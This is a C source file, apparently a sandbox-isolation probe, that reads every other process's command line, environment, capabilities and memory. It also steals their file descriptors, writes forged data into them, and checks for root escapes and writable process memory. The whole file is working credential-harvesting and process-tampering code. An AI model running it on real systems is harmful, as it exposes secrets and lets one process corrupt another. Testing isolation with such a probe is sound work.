/* Tries to get at all that the other processes of its pid namespace hold: `take-over [WORD...]`.

   Prints a line for each thing that it has got of a process:
     PID command LINE            what /proc/PID/cmdline shows
     PID environment LINE        and /proc/PID/environ, if there is anything
     PID capabilities HEX        the effective ones
     PID descriptor N WHAT       one that pidfd_getfd(2) gave it, with its name in /proc
     PID fd N WHAT               one that /proc/PID/fd names
     PID escape N                a descriptor by which `..` leads out of its root
     PID writable PATH           exe, or a mapped file, opened for writing
     PID memory WORD             a WORD, found in memory
     PID map PATH                a file that is mapped there
   and at last "done". $FORGE, if set, is written to each descriptor above 2. Words are given in halves, joined by a comma, so that its own command line does not hold them. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static char piece[1 << 20];

static void show(int pid, const char *kind, const char *file)
{
    char path[64], text[4096];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
    int fd = open(path, O_RDONLY);
    ssize_t size = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
    if (fd >= 0)
        close(fd);
    while (size > 0 && !text[size - 1])
        size--;
    if (size <= 0)
        return;
    for (ssize_t i = 0; i < size; i++)
        if (text[i] < ' ')
            text[i] = ' ';
    text[size] = 0;
    printf("%d %s %s\n", pid, kind, text);
}

static void show_capabilities(int pid)
{
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *file = fopen(path, "r");
    while (file && fgets(line, sizeof line, file))
        if (!strncmp(line, "CapEff:", 7))
            printf("%d capabilities %s", pid, line + 8);
    if (file)
        fclose(file);
}

/* whether `..` of directory FD, again and again, ends elsewhere than at our root */
static int leads_out(int fd)
{
    struct stat here, root;
    int up = openat(fd, "../../../../../../../../../../../..", O_PATH | O_DIRECTORY);
    if (up < 0 || fstat(up, &here) || stat("/", &root))
        return 0;
    close(up);
    return here.st_dev != root.st_dev || here.st_ino != root.st_ino;
}

static void take_descriptors(int pid)
{
    char path[64], name[256];
    int process = syscall(SYS_pidfd_open, pid, 0);
    for (int number = 0; process >= 0 && number < 1024; number++) {
        int fd = syscall(SYS_pidfd_getfd, process, number, 0);
        if (fd >= 0) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            ssize_t size = readlink(path, name, sizeof name - 1);
            name[size > 0 ? size : 0] = 0;
            printf("%d descriptor %d %s\n", pid, number, name);
            if (number > 2 && getenv("FORGE"))
                dprintf(fd, "%s", getenv("FORGE"));
            if (leads_out(fd))
                printf("%d escape %d\n", pid, number);
            close(fd);
        }
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
        ssize_t size = readlink(path, name, sizeof name - 1);
        if (size > 0) {
            name[size] = 0;
            printf("%d fd %d %s\n", pid, number, name);
        }
    }
    if (process >= 0)
        close(process);
}

static void try_to_write(int pid, const char *path)
{
    int fd = open(path, O_RDWR);
    if (fd >= 0)
        printf("%d writable %s\n", pid, path);
    if (fd >= 0)
        close(fd);
}

static void search(int pid, int memory, unsigned long start, unsigned long end, char **words)
{
    for (unsigned long at = start; at < end; at += sizeof piece / 2) {
        ssize_t size = pread(memory, piece, sizeof piece, (off_t) at);
        for (char **word = words; size > 0 && *word; word++)
            if (memmem(piece, size, *word, strlen(*word))) {
                printf("%d memory %s\n", pid, *word);
                **word = 1; /* once is enough */
            }
    }
}

static void search_memory(int pid, char **words)
{
    char path[64], line[4096], link[128], name[4096];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDONLY);
    if (memory >= 0)
        try_to_write(pid, path);
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        name[0] = 0;
        if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095s", &start, &end, name) < 2)
            continue;
        if (name[0] == '/') {
            printf("%d map %s\n", pid, name);
            snprintf(link, sizeof link, "/proc/%d/map_files/%lx-%lx", pid, start, end);
            try_to_write(pid, link);
        }
        if (memory >= 0 && name[0] != '/')
            search(pid, memory, start, end, words);
    }
    if (maps)
        fclose(maps);
    if (memory >= 0)
        close(memory);
}

int main(int argc, char **argv)
{
    char path[64];
    char **words = calloc(argc + 1, sizeof *words);

    for (int i = 1; i < argc; i++) {
        char *comma = strchr(argv[i], ',');
        if (comma)
            memmove(comma, comma + 1, strlen(comma));
        words[i - 1] = argv[i];
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    DIR *all = opendir("/proc");
    for (struct dirent *entry; all && (entry = readdir(all));) {
        int pid = atoi(entry->d_name);
        if (pid <= 0 || pid == getpid())
            continue;
        show(pid, "command", "cmdline");
        show(pid, "environment", "environ");
        show_capabilities(pid);
        take_descriptors(pid);
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        try_to_write(pid, path);
        search_memory(pid, words);
    }
    puts("done");
    return 0;
}
